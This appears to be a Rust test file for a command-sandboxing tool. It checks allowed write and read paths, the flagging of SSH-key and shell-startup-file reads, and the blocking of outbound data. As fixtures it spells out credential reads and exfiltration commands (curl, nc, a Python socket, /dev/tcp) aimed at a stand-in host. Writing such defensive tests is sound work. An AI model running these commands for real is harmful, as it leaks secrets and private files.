//! The gate knows the fence: what that lets pass on purpose, what lies in the project, and what it refuses by itself.

use super::support::{Ran, Room};

/// A directory below one of the system's, where this user may make one.
fn made_in(parent: &str) -> Option<tempfile::TempDir> {
    match tempfile::tempdir_in(parent) {
        Ok(dir) => Some(dir),
        Err(error) => {
            ringfence_testing::lacks("root", &format!("{parent}: {error}"));
            None
        }
    }
}

#[test]
fn what_the_configuration_lets_be_written_is_not_asked_about() {
    let room = Room::new();
    let write = |dir: &str| room.run(&["check", &format!("mkdir -p {dir}/a && echo x > {dir}/a/b")]);
    let places = ["/srv/shared", "/opt/app", "/var/lib/app", "/usr/local/share/app", "/root/out"];
    for dir in places {
        write(dir).expect(10);
    }
    room.configure(&format!(r#"{{ "allowWrite": {places:?}, "allowRead": ["/run/secrets/site"] }}"#));
    for dir in places {
        let ran = write(dir).expect(0);
        assert!(!ran.stdout.contains("belongs to the system"), "{}", ran.stdout);
    }
    room.run(&["check", "echo x > /srv/other"]).expect(10);
    room.run(&["check", "cat /run/secrets/site/token"]).expect(0);
    room.run(&["check", "cat /run/secrets/other"]).expect(10);
    // Without a fence nothing is allowed by its rules.
    room.configure(&format!(r#"{{ "allowWrite": {places:?}, "defaultPolicy": "none" }}"#));
    write("/srv/shared").expect(10);
}

#[test]
fn what_the_configuration_lets_be_written_is_written() {
    let room = Room::new();
    if !room.has_fence() {
        return;
    }
    for parent in ["/srv", "/opt", "/var/lib", "/usr/local"] {
        let Some(dir) = made_in(parent) else { continue };
        let shown = dir.path().to_str().unwrap();
        room.configure(&format!(r#"{{ "allowWrite": ["{shown}"] }}"#));
        room.run(&["run", "-c", &format!("echo kept > {shown}/a; rm -f {shown}/none")]).expect(0);
        assert_eq!(std::fs::read_to_string(dir.path().join("a")).unwrap(), "kept\n");
    }
}

#[test]
fn a_project_below_the_home_of_root_is_a_project() {
    let room = Room::new();
    if !room.has_fence() {
        return;
    }
    let Some(dir) = made_in("/root") else { return };
    std::fs::write(dir.path().join("f1"), "0123456789").unwrap();
    for command in ["head -c 4 f1", "sh -c 'cat f1 > f2; head -c 4 f2'"] {
        let run = room.command(&["run", "-c", command]).current_dir(dir.path()).output().unwrap();
        let ran = Ran::of(run).expect(0);
        assert_eq!(ran.stdout, "0123", "{}", ran.stderr);
    }
}

#[test]
fn a_key_that_code_opens_is_left_to_the_fence_and_told_by_its_path() {
    let room = Room::new();
    if !room.has_fence() {
        return;
    }
    let key = room.write(room.home.join(".ssh/id_rsa"), "treasure");
    let key = key.to_str().unwrap();
    let code = format!("print(open('{key}').read())");
    for arguments in [vec!["python3", "-c", &code], vec!["env", "-u", "X", "python3", "-Sc", &code]] {
        let result = room.run(&[vec!["run", "--json", "--"], arguments].concat()).expect(1).json();
        let told = result["violations"].as_array().unwrap();
        assert!(told.iter().all(|violation| violation["resource"] == key), "{result}");
        assert!(!told.is_empty() && !result.to_string().contains("treasure"), "{result}");
    }
    let checked = room.run(&["check", "--json", "python3 -c \"open('~/.ssh/id_rsa')\""]).expect(10).json();
    let findings = checked["findings"].as_array().unwrap();
    assert!(findings.iter().all(|finding| finding["path"] == key), "{checked}");
}

/// Nobody is there to be asked, and nobody has to be: what is written is in the project, or the fence refuses it.
#[test]
fn ordinary_work_with_names_that_only_running_can_tell_runs() {
    let room = Room::new();
    if !room.has_fence() {
        return;
    }
    let long = format!("cat > long <<'E'\n{}E\nwc -c < long", "0123456789abcde\n".repeat(6000));
    for (command, stdout) in [
        ("for i in $(seq 3); do echo $i > c.$i; done; cat c.*", "1\n2\n3\n"),
        ("for i in $(seq 3); do echo $i > $i.txt; done; cat ?.txt; rm ?.txt", "1\n2\n3\n"),
        ("for f in $(ls c.*); do n=$(basename $f .1); echo x > $n.new; done; cat c.3.new", "x\n"),
        ("for ((i = 0; i < 2; i++)); do echo $i > $i; done; cat 0 1", "0\n1\n"),
        ("for i in $(seq 3); do rm c.$i; done; ls c.1 2>/dev/null || echo gone", "gone\n"),
        ("touch u.1 u.2; for f in $(ls u.*); do rm $f; done; ls u.1 2>/dev/null || echo gone", "gone\n"),
        ("python3 -c 'import mmap; m = mmap.mmap(-1, 4); m.write(b\"ok\"); print(m[:2].decode())'", "ok\n"),
        (&long, "96000\n"),
        ("eval \"echo hi\"", "hi\n"),
    ] {
        let ran = room.run(&["run", "-c", command]).expect(0);
        assert_eq!(ran.stdout, stdout, "{command}: {}", ran.stderr);
    }
    // In the home of the fence there is nothing of the host's to be read.
    room.write(room.home.join(".bashrc"), "export TOKEN=treasure");
    let ran = room.run(&["run", "-c", "cat ~/.bashrc; true"]).expect(0);
    assert!(!ran.stdout.contains("treasure"), "{}", ran.stdout);
    let shown = room.home.join("outside").to_str().unwrap().to_owned();
    room.write(room.home.join("outside"), "mine");
    room.write("target", &shown);
    room.run(&["run", "-c", "t=$(cat target); echo theirs > $t; rm -f $t"]);
    room.run(&["run", "-c", "t=$(cat target); rm -rf $t"]).expect(126);
    assert_eq!(std::fs::read_to_string(shown).unwrap(), "mine", "the fence decides where a name leads");
}

#[test]
fn what_is_said_about_start_up_files_and_settings_is_true() {
    let room = Room::new();
    let said = |command: &str| room.run(&["check", command]).expect(10).stdout;
    let text = said("cat ~/.bashrc");
    assert!(text.contains("may hold secrets: tokens are often exported there"), "{text}");
    let text = said("cat ~/.vscode/settings.json");
    assert!(text.contains("may hold secrets: extensions of editors keep tokens there"), "{text}");
    let text = said("echo x > .vscode/settings.json");
    assert!(text.contains("makes programs run later") && !text.contains("secrets"), "{text}");
    room.run(&["check", "cat .vscode/settings.json"]).expect(0);
}

/// Where there is no network, nothing is sent, and the fence says so by its own name.
#[test]
fn data_that_cannot_leave_is_left_to_the_fence() {
    let room = Room::new();
    if !room.has_fence() {
        return;
    }
    room.write("data", "mine");
    let send = "python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), 1).sendall(open('data', 'rb').read())\"";
    room.run(&["check", "curl -d @data http://192.0.2.1/"]).expect(10);
    room.run(&["check", "cat data | nc 192.0.2.1 80"]).expect(10);
    room.run(&["check", send]).expect(10);
    let piped = "cat data | tee >(cat > /dev/tcp/192.0.2.1/80); true";
    let result = room.run(&["run", "--json", "-c", piped]).expect(0).json();
    assert_eq!(result["stdout"], "mine", "{result}");
    assert!(result["violations"].to_string().contains("192.0.2.1"), "{result}");
    let ran = room.run(&["run", "-c", "curl -s -m 1 -d @data http://192.0.2.1/ || echo unsent"]).expect(0);
    assert_eq!(ran.stdout, "unsent\n", "{}", ran.stderr);
}
